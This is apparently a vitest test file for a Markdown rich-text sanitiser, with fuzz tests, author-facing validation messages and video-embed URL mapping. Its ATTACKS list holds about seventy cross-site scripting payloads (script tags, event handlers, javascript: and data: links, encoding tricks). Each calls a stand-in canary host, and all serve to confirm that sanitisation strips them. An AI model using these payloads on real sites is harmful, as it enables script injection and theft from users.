import fc from 'fast-check'
import type { Element, Nodes } from 'hast'
import { visit } from 'unist-util-visit'
import { describe, expect, test } from 'vitest'
import { embedOf } from './embed.ts'
import { parseRichText } from './parse-rich-text.ts'
import { richTextProblems } from './rich-text-problems.ts'

const RUN = 'fetch(`https://canary.example`)'

/** What is tried on sites that show other people's texts. */
const ATTACKS = [
  `<script>${RUN}</script>`,
  `<SCRIPT SRC=//canary.example/x.js></SCRIPT>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<img src=x onerror=${RUN}>`,
  `<img src="x" onerror="${RUN}" />`,
  `<svg onload=${RUN}>`,
  `<svg><script href="data:text/javascript,${RUN}" /></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x></svg>`,
  `<math><mtext></mtext><mglyph><style><img src=x onerror=${RUN}></style></mglyph></math>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<iframe src="javascript:${RUN}"></iframe>`,
  `<iframe srcdoc="<script>${RUN}</script>"></iframe>`,
  `<object data="javascript:${RUN}"></object>`,
  `<embed src="javascript:${RUN}">`,
  `<base href="https://canary.example/">`,
  `<link rel=stylesheet href="https://canary.example/x.css">`,
  `<meta http-equiv="refresh" content="0;url=https://canary.example">`,
  `<style>@import 'https://canary.example/x.css'</style>`,
  `<p style="background:url(https://canary.example)">x</p>`,
  `<form action="https://canary.example"><button>go</button></form>`,
  `<button formaction="javascript:${RUN}">go</button>`,
  `<details open ontoggle=${RUN}>x</details>`,
  `<video><source onerror="${RUN}"></video>`,
  `<audio src=x onerror=${RUN}>`,
  `<marquee onstart=${RUN}>`,
  `<body onload=${RUN}>`,
  `<input autofocus onfocus=${RUN}>`,
  `<select autofocus onfocus=${RUN}>`,
  `<textarea autofocus onfocus=${RUN}>`,
  `<template><script>${RUN}</script></template>`,
  `<a href="javascript:${RUN}">x</a>`,
  `<a href="java&#x09;script:${RUN}">x</a>`,
  `<!--<img src="--><img src=x onerror=${RUN}>`,
  `<![CDATA[<script>${RUN}</script>]]>`,
  `<?xml-stylesheet href="javascript:${RUN}"?>`,
  `[x](javascript:${RUN})`,
  `[x](JaVaScRiPt:${RUN})`,
  `[x](  javascript:${RUN})`,
  `[x](<javascript:${RUN}>)`,
  `[x](&#106;avascript:${RUN})`,
  `[x](&#x6A;&#x61;vascript:${RUN})`,
  `[x](javascript&colon;${RUN})`,
  `[x](java\tscript:${RUN})`,
  `[x](\u0001javascript:${RUN})`,
  `[x](java%0ascript:${RUN})`,
  `[x](vbscript:msgbox)`,
  `[x](data:text/html;base64,PHNjcmlwdD4=)`,
  `[x](data:image/svg+xml,<svg onload=${RUN}>)`,
  `[x](blob:https://example.com/1)`,
  `[x](file:///etc/passwd)`,
  `[x](intent://scan/#Intent;end)`,
  `[x][1]\n\n[1]: javascript:${RUN}`,
  `[x]\n\n[x]: data:text/html,x`,
  `<javascript:${RUN}>`,
  `<data:text/html,x>`,
  `![x](javascript:${RUN})`,
  `![x](data:image/svg+xml,<svg onload=${RUN}>)`,
  `![x](http://canary.example/x.png)`,
  `![x](https://a.example/x.png"onerror="${RUN})`,
  `![x" onerror="${RUN}](https://a.example/x.png)`,
  `![x][1]\n\n[1]: javascript:${RUN}`,
  `[a](https://a.example "x\\" onmouseover=\\"${RUN}")`,
  '```"><script>x</script>\ncode\n```',
  `| a |\n| - |\n| <img src=x onerror=${RUN}> |`,
  `- [ ] <img src=x onerror=${RUN}>`,
  `# <svg onload=${RUN}>`,
  `> <script>${RUN}</script>`,
  `https://a.example/"onmouseover="${RUN}`,
  `x[^1]\n\n[^1]: <script>${RUN}</script>`,
]

const TAGS = new Set(
  'p h1 h2 h3 h4 h5 h6 strong em del br hr a img ul ol li blockquote code pre table thead tbody tr th td'.split(
    ' ',
  ),
)
const PROPERTIES = new Set(['href', 'title', 'src', 'alt', 'start', 'align'])

/** Returns what a tree must not hold, looked up in lists of its own. */
function harmIn(tree: Nodes): string[] {
  const harm: string[] = []
  visit(tree, (node) => {
    if (node.type === 'element') harm.push(...harmOf(node))
    else if (node.type !== 'root' && node.type !== 'text') harm.push(node.type)
  })
  return harm
}

function harmOf({ tagName, properties }: Element): string[] {
  const names = Object.entries(properties).filter(([, value]) => value !== undefined)
  return [
    ...(TAGS.has(tagName) ? [] : [tagName]),
    ...names.flatMap(([name]) => (PROPERTIES.has(name) ? [] : [`${tagName} ${name}`])),
    ...['href', 'src'].flatMap((name) => {
      const value = properties[name]
      if (typeof value !== 'string') return []
      // An address that is none leads nowhere.
      const protocol = URL.parse(value, 'https://app.invalid')?.protocol ?? 'https:'
      return ['https:', 'http:', 'mailto:'].includes(protocol) ? [] : [`${name} ${value}`]
    }),
  ]
}

describe('rich text', () => {
  test.each(ATTACKS)('holds nothing that runs or leads elsewhere: %s', (attack) => {
    expect(harmIn(parseRichText(attack))).toEqual([])
    expect(harmIn(parseRichText(`Before\n\n${attack}\n\nafter **${attack}**`))).toEqual([])
  })

  test('holds nothing but the allowed elements whatever the text is', () => {
    const piece = fc.oneof(
      fc.string(),
      fc.constantFrom(...ATTACKS),
      fc.constantFrom(
        '\n\n',
        '> ',
        '- ',
        '1. ',
        '`',
        '**',
        '](',
        '![',
        '<',
        '|',
        '---|---\n',
        '&#',
        ':',
        '\\',
      ),
    )
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 12 }), (pieces) => {
        expect(harmIn(parseRichText(pieces.join('')))).toEqual([])
      }),
      { numRuns: 500 },
    )
  })

  test('shows headings, lists, quotes, code, tables, pictures and links', () => {
    const text =
      '## Heading\n\n1. one\n2. two\n\n> quote\n\n```js\ncode()\n```\n\n| a | b |\n| :- | -: |\n| 1 | 2 |\n\n![A map](/art/map.svg) [out](https://a.example) [in](/courses) ~~old~~ **new** *and*'
    const tags = new Set<string>()
    visit(parseRichText(text), 'element', ({ tagName }) => void tags.add(tagName))
    for (const tag of [
      'h2',
      'ol',
      'li',
      'blockquote',
      'pre',
      'code',
      'table',
      'th',
      'td',
      'img',
      'a',
      'del',
      'strong',
      'em',
    ])
      expect(tags).toContain(tag)
    expect(richTextProblems(text)).toEqual([])
  })

  test('parses deeply nested and long texts within four seconds', () => {
    const began = performance.now()
    for (const text of [
      '> '.repeat(2000),
      '['.repeat(10_000),
      '*'.repeat(20_000),
      'a **b** `c` '.repeat(1666),
    ])
      expect(harmIn(parseRichText(text))).toEqual([])
    expect(performance.now() - began).toBeLessThan(4000)
  })
})

test.each([
  ['<b>bold</b>', 'expected Markdown without HTML'],
  ['[x](javascript:alert)', 'expected a path or an address that begins with https://, not javascript:alert'],
  ['[x](http://a.example)', 'expected a path or an address that begins with https://, not http://a.example'],
  ['[x](//a.example)', 'expected a path or an address that begins with https://, not //a.example'],
  ['[x](courses)', 'expected a path or an address that begins with https://, not courses'],
  [
    '![x](http://a.example/x.png)',
    'expected a picture at a path or at an address that begins with https://, not http://a.example/x.png',
  ],
  ['![](https://a.example/x.png)', 'expected a description of the picture between the brackets'],
  ['![x][1]\n\n[1]: https://a.example/x.png', 'expected a picture written as ![description](address)'],
  ['x[^1]\n\n[^1]: note', 'expected no footnotes'],
])('An author who writes %j is told what is expected', (text, problem) => {
  expect(richTextProblems(text)).toContain(problem)
})

test.each([
  ['https://www.youtube.com/watch?v=aqz-KE-bpKQ', 'https://www.youtube-nocookie.com/embed/aqz-KE-bpKQ'],
  [
    'https://www.youtube.com/watch?t=3&v=aqz-KE-bpKQ&x=1',
    'https://www.youtube-nocookie.com/embed/aqz-KE-bpKQ',
  ],
  ['https://youtu.be/aqz-KE-bpKQ', 'https://www.youtube-nocookie.com/embed/aqz-KE-bpKQ'],
  ['https://vimeo.com/76979871', 'https://player.vimeo.com/video/76979871'],
  [
    'https://www.loom.com/share/0123456789abcdef0123456789abcdef',
    'https://www.loom.com/embed/0123456789abcdef0123456789abcdef',
  ],
  ['http://www.youtube.com/watch?v=aqz-KE-bpKQ', null],
  ['https://www.youtube.com.evil.example/watch?v=aqz-KE-bpKQ', null],
  ['https://www.youtube.com@evil.example/watch?v=aqz-KE-bpKQ', null],
  ['https://www.youtube.com:444/watch?v=aqz-KE-bpKQ', null],
  ['https://www.youtube.com/watch?v=../../x', null],
  ['https://www.youtube.com/redirect?q=https://evil.example', null],
  ['javascript:alert(1)', null],
])('The address %s has the player %s', (address, url) => {
  expect(embedOf(address)?.url ?? null).toBe(url)
})
